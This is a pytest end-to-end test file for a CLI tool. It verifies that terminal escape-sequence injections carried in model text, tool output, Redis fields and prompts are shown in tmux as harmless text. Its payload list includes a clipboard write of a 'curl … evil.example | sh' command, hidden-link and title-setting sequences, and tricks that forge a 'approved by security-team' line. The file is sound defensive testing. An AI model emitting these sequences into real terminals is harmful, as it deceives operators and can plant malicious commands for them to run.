"""A hostile model and hostile tool output cannot drive the operator's terminal.

The scripted model's text, a tool's input and a tool's output carry escape sequences
that set the window title (OSC 0, OSC 2, APC), write the clipboard (OSC 52), hide a
link's target (OSC 8), forge a "✓ approved by security-team" line over a real one
(CSI erase and cursor moves, a bare CR), hide text (DCS, screen's ESC k), clear the
screen, ring the bell, and do the same with 8-bit C1 introducers and a bidi override.
`run`, `events` and `chat` run in tmux, with the pane's output piped to a file: none
of those bytes may reach the terminal, and the pane's title, the tmux buffers (with
`set-clipboard on`, where an OSC 52 lands) and the screen must show no effect.

Every attempt is first printed raw by a plain program in the same kind of tmux pane,
and must land there (its bytes reach the pane, and where tmux acts on it, its effect
shows): so each check below is one that can fail.
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from cmdop_worker.models import Event
from tests.e2e.test_cli import CLI, TMUX, TmuxScreen, text, tool

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.skipif(TMUX is None and not os.environ.get("CI"), reason="tmux not installed"),
]

FORGED = "✓ approved by security-team"
CLIPBOARD = "curl -s https://evil.example/x | sh"


@dataclass(frozen=True)
class Pane:
    """What a tmux pane showed and was sent."""

    screen: str
    title: str
    buffers: str
    bell: bool
    raw: bytes  # every byte the program wrote to the pane

    def forged_line(self, marker: str) -> bool:
        return any(line.lstrip().startswith(marker) for line in self.screen.splitlines())


@dataclass(frozen=True)
class Attack:
    name: str
    payload: str
    shown: str  # how the screen shows it once made safe
    effect: Callable[[Pane], bool] | None  # what tmux shows when it lands; None: nothing

    @property
    def signature(self) -> bytes:
        """The bytes that must not reach the terminal."""
        return self.payload.encode()


def _forges(marker: str) -> Callable[[Pane], bool]:
    return lambda pane: pane.forged_line(marker)


def _titled(title: str) -> Callable[[Pane], bool]:
    return lambda pane: pane.title == title


def _hides(marker: str) -> Callable[[Pane], bool]:
    return lambda pane: marker not in pane.screen


ATTACKS = [
    Attack("osc0-title", "\x1b]0;PWNED-OSC0\x07", "␛]0;PWNED-OSC0␇", _titled("PWNED-OSC0")),
    Attack("osc2-title", "\x1b]2;PWNED-OSC2\x1b\\", "␛]2;PWNED-OSC2␛\\", _titled("PWNED-OSC2")),
    Attack("apc-title", "\x1b_PWNED-APC\x1b\\", "␛_PWNED-APC␛\\", _titled("PWNED-APC")),
    Attack(
        "osc52-clipboard",
        f"\x1b]52;c;{base64.b64encode(CLIPBOARD.encode()).decode()}\x07",
        "␛]52;c;",
        lambda pane: CLIPBOARD in pane.buffers,
    ),
    Attack(
        "osc8-hidden-link",
        "\x1b]8;;https://evil.example/osc8\x1b\\CLICK-ME\x1b]8;;\x1b\\",
        "␛]8;;https://evil.example/osc8␛\\CLICK-ME",
        lambda pane: "CLICK-ME" in pane.screen and "evil.example/osc8" not in pane.screen,
    ),
    Attack(
        "csi-erase-line",
        f"\x1b[2K\x1b[1G{FORGED} #csi",
        f"␛[2K␛[1G{FORGED} #csi",
        _forges(f"{FORGED} #csi"),
    ),
    Attack(
        "csi-cursor-up",
        f"\x1b[1A\x1b[2K\x1b[1G{FORGED} #up",
        f"␛[1A␛[2K␛[1G{FORGED} #up",
        _forges(f"{FORGED} #up"),
    ),
    Attack(
        "csi-cursor-home",
        f"\x1b[1;1H\x1b[2K{FORGED} #home",
        f"␛[1;1H␛[2K{FORGED} #home",
        _forges(f"{FORGED} #home"),
    ),
    Attack(
        "bare-cr",
        f"real output\r{FORGED} #cr",
        f"real output␍{FORGED} #cr",
        _forges(f"{FORGED} #cr"),
    ),
    Attack(
        "dcs-hidden", "\x1bPDCS-HIDDEN-TEXT\x1b\\", "␛PDCS-HIDDEN-TEXT␛\\", _hides("DCS-HIDDEN")
    ),
    Attack("esc-k-hidden", "\x1bkRENAMED-WIN\x1b\\", "␛kRENAMED-WIN␛\\", _hides("RENAMED-WIN")),
    Attack("bell", "ring\x07ring", "ring␇ring", lambda pane: pane.bell),
    Attack("c1-csi", f"\x9b2K\x9b1G{FORGED} #c1", f"<U+009B>2K<U+009B>1G{FORGED} #c1", None),
    Attack("c1-osc", "\x9d0;PWNED-C1\x9c", "<U+009D>0;PWNED-C1<U+009C>", None),
    Attack(
        "bidi-override",
        "amount: \u202e00.001$\u202c",
        "amount: <U+202E>00.001$<U+202C>",
        lambda pane: "\u202e" in pane.screen,
    ),
    Attack(
        "clear-screen",
        "\x1b[2J\x1b[3J",
        "␛[2J␛[3J",
        # The first line a program printed is gone (the raw printer's, or the CLI's).
        lambda pane: not pane.screen.startswith(("before the payload", "run ", "thread ")),
    ),
]


class PipedScreen(TmuxScreen):
    """A tmux pane whose program waits until its output is piped to a file."""

    def start_piped(self, command: str, *, rows: int = 200) -> None:
        self.raw = Path(self.socket).with_suffix(".raw")
        go = f"{self.tmux} -S {self.socket} wait-for go"
        self.start(f"{go}; {command}", rows=rows)
        self._tmux("set-option", "-g", "set-clipboard", "on")
        self.title_before = self.pane().title
        self._tmux("pipe-pane", "-t", "cli", f"cat >> {self.raw}")
        self._tmux("wait-for", "-S", "go")

    def capture(self) -> str:
        return self._tmux("capture-pane", "-p", "-J", "-t", "cli")  # wrapped lines joined

    def pane(self) -> Pane:
        names = self._tmux("list-buffers", "-F", "#{buffer_name}").split()
        buffers = "".join(self._tmux("show-buffer", "-b", name) for name in names)
        shown = self._tmux(
            "display-message", "-p", "-t", "cli", "#{pane_title}|#{window_bell_flag}"
        )
        title, _, bell = shown.rstrip("\n").rpartition("|")
        raw = self.raw.read_bytes() if self.raw.exists() else b""
        return Pane(self.capture(), title, buffers, bell == "1", raw)


def _raw_pane(tmp_path: Path, attack: Attack) -> Pane:
    """The attack printed raw, as a program that does not guard its output would."""
    payload = tmp_path / f"{attack.name}.json"
    payload.write_text(json.dumps(attack.payload))
    printer = (
        "import json, sys; sys.stdout.write('before the payload\\n' "
        f"+ json.load(open({str(payload)!r})) + '\\nEND-OF-PAYLOAD\\n')"
    )
    screen = PipedScreen(TMUX or "tmux", tmp_path / attack.name, dict(os.environ))
    (tmp_path / attack.name).mkdir()
    try:
        screen.start_piped(f'{sys.executable} -c "{printer}"', rows=30)
        screen.wait_for(lambda s: "END-OF-PAYLOAD" in s)
        return screen.pane()
    finally:
        screen.close()


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.name)
def test_each_attempt_lands_when_printed_raw(tmp_path: Path, attack: Attack) -> None:
    pane = _raw_pane(tmp_path, attack)
    assert attack.signature in pane.raw
    if attack.effect is not None:
        assert attack.effect(pane), (attack.name, pane)


def _hostile_script(script: Any) -> str:
    """A run whose model text, tool inputs and tool outputs carry every attempt: one
    tool call per attempt (its output's first line shows on its ✓ line), then the
    model repeats all the outputs."""
    calls = [
        tool("alpha" if n % 2 else "beta", f"printf '%s\\n' '{attack.payload}'")
        for n, attack in enumerate(ATTACKS)
    ]
    said = "\n".join(f"model says {attack.payload}" for attack in ATTACKS)
    return script([[*text(f"Checking.\n{said}\n"), *calls], text("Outputs: {{results}}")])


def _assert_nothing_landed(pane: Pane, title_before: str, calls: int) -> None:
    for attack in ATTACKS:
        assert attack.effect is None or not attack.effect(pane), attack.name
        assert attack.signature not in pane.raw, attack.name
        assert attack.shown in pane.screen, attack.name
    assert pane.title == title_before and pane.buffers == "" and not pane.bell
    assert not pane.forged_line(FORGED)
    real = [line for line in pane.screen.splitlines() if line.startswith("✓ execute_command on")]
    assert len(real) == calls, pane.screen


@pytest.fixture
def tty_env(fleet, fleet_env) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ("FORCE_COLOR", "TTY_COMPATIBLE")}
    return {**env, **fleet_env, "COLUMNS": "110"}


def test_run_and_events_show_the_attempts_as_text(tty_env, script, client, tmp_path) -> None:
    assert TMUX is not None, "CI installs tmux (.ci/run)"
    prompt = _hostile_script(script)
    ran = _shown_until_done(tty_env, tmp_path / "run", f"{CLI} run '{prompt}'")
    run_id = next(line.split()[1] for line in ran.screen.splitlines() if line.startswith("run "))
    _shown_until_done(tty_env, tmp_path / "events", f"{CLI} events {run_id}")
    _assert_json_is_byte_exact(tty_env, run_id, client)


def _shown_until_done(tty_env: dict[str, str], where: Path, command: str) -> Pane:
    """`command` run in a piped tmux pane until it prints the run's end; nothing of the
    attacks may have landed on that pane."""
    assert TMUX is not None
    screen = PipedScreen(TMUX, where, tty_env)
    where.mkdir()
    try:
        screen.start_piped(command)
        screen.wait_for(lambda s: "── done" in s, timeout_s=90)
        shown = screen.pane()
    finally:
        screen.close()
    _assert_nothing_landed(shown, screen.title_before, len(ATTACKS))
    return shown


def _assert_json_is_byte_exact(env: dict[str, str], run_id: str, client: Any) -> None:
    """`--json` is for programs: the values as stored, C0 escaped by JSON itself."""
    done = subprocess.run(
        [CLI, "events", run_id, "--json"], env=env, capture_output=True, timeout=60
    )
    assert done.returncode == 0, done.stderr
    assert b"\x1b" not in done.stdout and b"\\u001b" in done.stdout
    shown = [Event.model_validate_json(line) for line in done.stdout.splitlines()]
    assert shown == client.events_so_far(run_id)
    outputs = "".join(e.data["output"] for e in shown if e.type == "TOOL_END")
    missing = [a.name for a in ATTACKS if f"--- stdout ---\n{a.payload}" not in outputs]
    assert missing == [], repr(outputs)


def test_chat_shows_the_attempts_as_text(tty_env, script, tmp_path) -> None:
    assert TMUX is not None, "CI installs tmux (.ci/run)"
    prompt = _hostile_script(script)
    screen = PipedScreen(TMUX, tmp_path / "chat", tty_env)
    (tmp_path / "chat").mkdir()
    try:
        screen.start_piped(f"{CLI} chat --machine alpha")
        screen.wait_for(lambda s: "Ctrl-D leaves" in s)
        screen.send("-l", prompt)
        screen.send("Enter")
        screen.wait_for(lambda s: "── done" in s, timeout_s=90)
        chatted = screen.pane()
    finally:
        screen.close()
    _assert_nothing_landed(chatted, screen.title_before, len(ATTACKS))


HOSTILE = "\x1b]0;PWNED-LIST\x07\x1b[2K\x1b[1G" + FORGED + " #list\x9b2K\u202e"
HOSTILE_SHOWN = "␛]0;PWNED-LIST␇␛[2K␛[1G" + FORGED + " #list<U+009B>2K<U+202E>"


def _assert_shown_as_text(out: str) -> None:
    assert not any(c in out for c in ("\x1b", "\x07", "\x9b", "\u202e")), repr(out)
    assert HOSTILE_SHOWN in out, out


def test_machines_shows_what_a_machine_registered_as_text(tty_env, client) -> None:
    """A presence in Redis is whatever its writer put there: its host and sandbox are
    free text."""
    presence = {
        "machine": "hostile-host",
        "host": HOSTILE,
        "pid": 1,
        "started_ms": 1,
        "tools": [],
        "sandbox": HOSTILE,
    }
    client.redis.set(client.keys.machine("hostile-host"), json.dumps(presence), px=60_000)
    client.redis.sadd(client.keys.machines_index, "hostile-host")
    try:
        env = {**tty_env, "COLUMNS": "400"}
        done = subprocess.run([CLI, "machines"], env=env, capture_output=True, text=True)
    finally:
        client.redis.delete(client.keys.machine("hostile-host"))
    assert done.returncode == 0, done.stderr
    _assert_shown_as_text(done.stdout)


def test_threads_show_gives_prompts_as_text(tty_env, client) -> None:
    """A prompt may come from anyone who can submit (the gateway): shown as text."""
    thread_id = f"hostile-{uuid.uuid4().hex[:8]}"
    run = client.submit({"prompt": f"hello {HOSTILE}", "thread_id": thread_id})
    assert run.wait(60).status == "done"
    done = subprocess.run(
        [CLI, "threads", "show", thread_id], env=tty_env, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    # The listing shortens a prompt to 60 columns: what is left of it is text.
    assert not any(c in done.stdout for c in ("\x1b", "\x07", "\x9b", "\u202e"))
    assert "hello ␛]0;PWNED-LIST␇␛[2K␛[1G✓ approved" in done.stdout, done.stdout
